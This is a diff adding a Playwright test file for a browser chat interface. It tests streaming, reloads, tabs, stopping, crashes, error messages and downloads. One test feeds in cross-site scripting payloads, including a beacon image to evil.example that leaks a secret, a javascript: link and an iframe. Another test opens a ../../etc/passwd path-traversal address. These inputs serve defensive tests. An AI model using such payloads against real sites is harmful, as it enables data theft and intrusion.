@@ -1,0 +1,280 @@
+"""Chatting in a real browser."""
+
+import json
+import re
+import time
+
+import httpx2
+import pytest
+from playwright.sync_api import BrowserContext, Page, expect
+
+from tests.browser.chat import PATIENCE, Chat
+from tests.provider import Gate, HangUp, Pause, Provider, Reply, Silence, paced
+from tests.server import Server
+
+
+def test_text_appears_while_the_server_is_sending(chat: Chat, provider: Provider) -> None:
+    gate = Gate()
+    provider.enqueue(Reply("This much ", gate, "and the rest."))
+    chat.send("Tell me")
+
+    expect(chat.live_text).to_have_text("This much", timeout=PATIENCE)
+    assert not provider.requests[0].ended.is_set()
+    gate.open()
+    chat.expect_said("Tell me", "This much and the rest.")
+    chat.send("And?")
+    chat.expect_said("Tell me", "This much and the rest.", "And?", "A plain answer.")
+    assert provider.requests[1].said == [("user", "Tell me"), ("assistant", "This much and the rest."), ("user", "And?")]
+
+
+def test_reload_in_mid_answer(chat: Chat, provider: Provider) -> None:
+    """The text so far is there at once and goes on; none is missing, none doubled."""
+    gate, again = Gate(), Gate()
+    provider.enqueue(Reply("One ", "two ", gate, "three ", again, "four."))
+    chat.send("Count")
+    expect(chat.live_text).to_have_text("One two", timeout=PATIENCE)
+    chat.page.reload()
+
+    expect(chat.live_text).to_have_text("One two", timeout=PATIENCE)
+    gate.open()
+    expect(chat.live_text).to_have_text("One two three", timeout=PATIENCE)
+    again.open()
+    chat.expect_said("Count", "One two three four.")
+    assert chat.messages.nth(1).inner_text().count("two") == 1
+
+
+def test_a_closed_tab_misses_nothing(chat: Chat, context: BrowserContext, server: Server, provider: Provider) -> None:
+    """Nobody looks for the whole answer; a new tab finds all of it."""
+    gate = Gate()
+    provider.enqueue(Reply(gate, "Nobody ", "was looking."))
+    chat.send("Go on alone")
+    chat.expect_conversation()
+    address = chat.page.url.removeprefix(server.url)
+    provider.wait_for_requests(1)
+    chat.page.close()
+    gate.open()
+    assert provider.requests[0].ended.wait(timeout=10)
+    again = Chat(context.new_page(), server.url)
+    again.open(address)
+
+    again.expect_said("Go on alone", "Nobody was looking.")
+
+
+def test_two_tabs_show_the_same(chat: Chat, context: BrowserContext, server: Server, provider: Provider) -> None:
+    """A tab that only looks sees the prompt, the text while it is written, and the end."""
+    chat.send("First")
+    chat.expect_said("First", "A plain answer.")
+    other = Chat(context.new_page(), server.url)
+    other.open(chat.page.url.removeprefix(server.url))
+    other.expect_said("First", "A plain answer.")
+    gate = Gate()
+    provider.enqueue(Reply("Shared ", gate, "text."))
+    chat.send("Second")
+
+    expect(chat.live_text).to_have_text("Shared", timeout=PATIENCE)
+    expect(other.live_text).to_have_text("Shared", timeout=PATIENCE)
+    gate.open()
+    for tab in (chat, other):
+        tab.expect_said("First", "A plain answer.", "Second", "Shared text.")
+
+
+def test_other_clicks_do_not_disturb_an_answer(chat: Chat, provider: Provider) -> None:
+    """Another conversation and back, a download, a rerun: the answer goes on."""
+    chat.send("Earlier")
+    chat.expect_said("Earlier", "A plain answer.")
+    gate, again = Gate(), Gate()
+    provider.enqueue(Reply("Still ", gate, "going ", again, "on."))
+    chat.page.locator(".st-key-new_conversation button").click()
+    expect(chat.messages).to_have_count(0, timeout=PATIENCE)
+    chat.send("Long one")
+    expect(chat.live_text).to_have_text("Still", timeout=PATIENCE)
+
+    sidebar = chat.page.get_by_test_id("stSidebar")
+    sidebar.get_by_role("link", name="Earlier").click()
+    chat.expect_said("Earlier", "A plain answer.")
+    sidebar.get_by_role("link", name="Long one").click()
+    expect(chat.live_text).to_have_text("Still", timeout=PATIENCE)
+    gate.open()
+    with chat.page.expect_download() as download:
+        chat.page.locator(".st-key-download_transcript button").click()
+    assert "Long one" in download.value.path().read_text()
+    expect(chat.live_text).to_have_text("Still going", timeout=PATIENCE)
+    assert not provider.requests[1].hung_up.is_set()
+    again.open()
+    chat.expect_said("Long one", "Still going on.")
+
+
+def test_stop_ends_the_request_and_keeps_the_text(chat: Chat, provider: Provider) -> None:
+    provider.enqueue(Reply("Kept text ", Gate()), Reply("On from there."))
+    chat.send("Tell me")
+    expect(chat.live_text).to_have_text("Kept text", timeout=PATIENCE)
+    chat.stop.click()
+
+    assert provider.requests[0].hung_up.wait(timeout=1)
+    chat.expect_said("Tell me", "Kept text")
+    expect(chat.page.get_by_text("You stopped this answer")).to_be_visible()
+    chat.send("Go on")
+    chat.expect_said("Tell me", "Kept text", "Go on", "On from there.")
+    assert provider.requests[1].said == [("user", "Tell me"), ("assistant", "Kept text "), ("user", "Go on")]
+
+
+def test_a_killed_server_loses_no_prompt_and_no_text(chat: Chat, server: Server, provider: Provider) -> None:
+    """`kill -9` in mid-answer: after the restart the open page shows prompt and text, says what happened, and the next turn works."""
+    provider.enqueue(Reply("Before the crash ", Silence()))
+    chat.send("Will it hold?")
+    expect(chat.live_text).to_have_text("Before the crash", timeout=PATIENCE)
+    time.sleep(0.3)
+    server.kill()
+    server.start()
+
+    expect(chat.page.get_by_text("The server stopped before this answer was finished")).to_be_visible(timeout=30_000)
+    chat.expect_said("Will it hold?", "Before the crash")
+    chat.send("Still there?")
+    chat.expect_said("Will it hold?", "Before the crash", "Still there?", "A plain answer.")
+    assert provider.requests[1].said == [("user", "Will it hold?"), ("assistant", "Before the crash "), ("user", "Still there?")]
+
+
+@pytest.mark.parametrize(
+    ("reply", "sentence"),
+    [
+        (Reply(status=401), "refused the key"),
+        (Reply("Half ", Pause(0.2), HangUp()), "hung up in the middle"),
+        (Reply("Half ", Silence()), "stayed silent for too long"),
+    ],
+    ids=["401", "hang-up", "silence"],
+)
+def test_a_failure_is_a_sentence(chat: Chat, provider: Provider, reply: Reply, sentence: str) -> None:
+    provider.enqueue(reply, Reply("Fine again."))
+    chat.send("Try")
+    expect(chat.page.get_by_test_id("stAlert")).to_contain_text(sentence, timeout=PATIENCE)
+    if reply.steps:
+        expect(chat.messages.nth(1)).to_contain_text("Half")
+
+    chat.send("Again")
+    expect(chat.messages.nth(3)).to_contain_text("Fine again.", timeout=PATIENCE)
+
+
+def test_a_deep_link_right_after_the_start(chat: Chat, server: Server, context: BrowserContext) -> None:
+    """A bookmark is the first thing a restarted server is asked for: frame and conversation are there."""
+    chat.send("Remember me")
+    chat.expect_said("Remember me", "A plain answer.")
+    address = chat.page.url.removeprefix(server.url)
+    chat.page.close()
+    server.terminate()
+    assert "Application shutdown complete" in server.log.read_text()
+    server.start()
+    again = Chat(context.new_page(), server.url)
+    again.open(address)
+
+    again.expect_said("Remember me", "A plain answer.")
+    expect(again.page.get_by_test_id("stSidebar").get_by_role("link", name="Remember me")).to_be_visible()
+
+
+def test_an_address_that_is_nobodys(chat: Chat) -> None:
+    """A sentence and nothing else."""
+    chat.open("/assistant?conversation=../../etc/passwd")
+
+    expect(chat.page.get_by_test_id("stAlert")).to_contain_text("There is no such conversation among yours")
+    expect(chat.messages).to_have_count(0)
+    expect(chat.page.get_by_test_id("stChatInputTextArea")).to_have_count(0)
+
+
+HOSTILE = """<script>window.pwned = 1</script> <img src=x onerror="window.pwned = 2">
+![beacon](http://evil.example/leak.png?q=secret) [click](javascript:window.pwned=3) :red[colour] it costs $5 or $6
+
+<iframe src="http://evil.example/"></iframe>
+"""
+
+
+def test_hostile_text_runs_and_loads_nothing(chat: Chat, provider: Provider, foreign_requests: list[str]) -> None:
+    """Neither while it is written nor when it is drawn as finished."""
+    errors: list[str] = []
+    chat.page.on("pageerror", lambda error: errors.append(str(error)))
+    gate = Gate()
+    provider.enqueue(Reply(HOSTILE, gate, "end"))
+    chat.send(HOSTILE.replace("\n", " "))
+    expect(chat.live_text).to_contain_text("<script>", timeout=PATIENCE)
+    assert chat.live_text.locator("script, img, iframe, a").count() == 0
+    gate.open()
+
+    expect(chat.messages.nth(1)).to_contain_text("end", timeout=PATIENCE)
+    expect(chat.stop).to_have_count(0, timeout=PATIENCE)
+    expect(chat.messages.nth(1)).to_contain_text(":red[colour] it costs $5 or $6")
+    assert chat.messages.nth(1).locator("script, img, iframe").count() == 0
+    assert chat.page.evaluate("window.pwned") is None
+    assert foreign_requests == []
+    assert errors == []
+
+
+def test_downloads(chat: Chat, provider: Provider) -> None:
+    provider.enqueue(Reply("Hello Ada."))
+    chat.send("I am Ada.")
+    chat.expect_said("I am Ada.", "Hello Ada.")
+    texts = {}
+    for key in ("download_conversation", "download_transcript", "download_state"):
+        with chat.page.expect_download() as download:
+            chat.page.locator(f".st-key-{key} button").click()
+        texts[key] = download.value.path().read_text()
+
+    assert json.loads(texts["download_conversation"])["format"] == "roundtable-conversation"
+    assert re.search(r"## assistant .*\n\nHello Ada\.", texts["download_transcript"])
+    assert json.loads(texts["download_state"])["llm_context"]["messages"][1]["content"] == "Hello Ada."
+
+
+def test_a_prompt_during_an_answer_is_kept(chat: Chat, provider: Provider) -> None:
+    """It is refused with a sentence and goes back into the box."""
+    gate = Gate()
+    provider.enqueue(Reply("Busy ", gate, "done."))
+    chat.send("One")
+    expect(chat.live_text).to_have_text("Busy", timeout=PATIENCE)
+    chat.send("Two")
+
+    expect(chat.page.get_by_test_id("stAlert")).to_contain_text("Your text is kept", ignore_case=True, timeout=PATIENCE)
+    expect(chat.page.get_by_test_id("stChatInputTextArea")).to_have_value("Two")
+    gate.open()
+    chat.expect_said("One", "Busy done.")
+
+
+def test_the_first_answer_without_any_key(page: Page, tmp_path_factory: pytest.TempPathFactory) -> None:
+    """The demo model answers, and the page says that it is one and how to connect a real one."""
+    server = Server(tmp_path_factory.mktemp("demo") / "data")
+    server.start()
+    try:
+        chat = Chat(page, server.url)
+        chat.open("/assistant")
+        expect(page.get_by_test_id("stAlert")).to_contain_text("OPENAI_API_KEY")
+        page.get_by_role("button", name="What can you do?").click()
+        chat.expect_said("What can you do?", "demo model")
+        assert httpx2.get(f"{server.url}/healthz").json()["status"] == "ok"
+    finally:
+        server.kill()
+
+
+def test_a_long_answer_is_followed_until_one_scrolls_up(chat: Chat, provider: Provider) -> None:
+    gate, again = Gate(), Gate()
+    lines = "\n\n".join(f"Line {number}" for number in range(60))
+    provider.enqueue(Reply(lines, gate, "\n\n" + lines, again, "\n\nThe last line"))
+    chat.send("Long")
+    expect(chat.live_text.get_by_text("Line 59")).to_be_in_viewport(timeout=PATIENCE)
+    chat.page.mouse.move(640, 300)
+    chat.page.mouse.wheel(0, -1500)
+    chat.page.wait_for_timeout(300)
+    before = chat.page.get_by_test_id("stMain").evaluate("main => main.scrollTop")
+    gate.open()
+    expect(chat.live_text.get_by_text("Line 59")).to_have_count(2, timeout=PATIENCE)
+
+    assert abs(chat.page.get_by_test_id("stMain").evaluate("main => main.scrollTop") - before) < 5
+    again.open()
+    chat.expect_said("Long", "The last line")
+    assert abs(chat.page.get_by_test_id("stMain").evaluate("main => main.scrollTop") - before) < 5
+
+
+def test_a_quick_answer_is_drawn_once(chat: Chat, provider: Provider) -> None:
+    for number in range(5):
+        provider.enqueue(paced(f"Answer {number} of five words", 0.01))
+        chat.send(f"Prompt {number}")
+        expect(chat.messages).to_have_count(2 * number + 2, timeout=PATIENCE)
+        expect(chat.messages.last).to_contain_text(f"Answer {number} of five words", timeout=PATIENCE)
+        expect(chat.stop).to_have_count(0, timeout=PATIENCE)
+
+    assert [text.count("Answer") for text in chat.messages.all_inner_texts()] == [0, 1] * 5
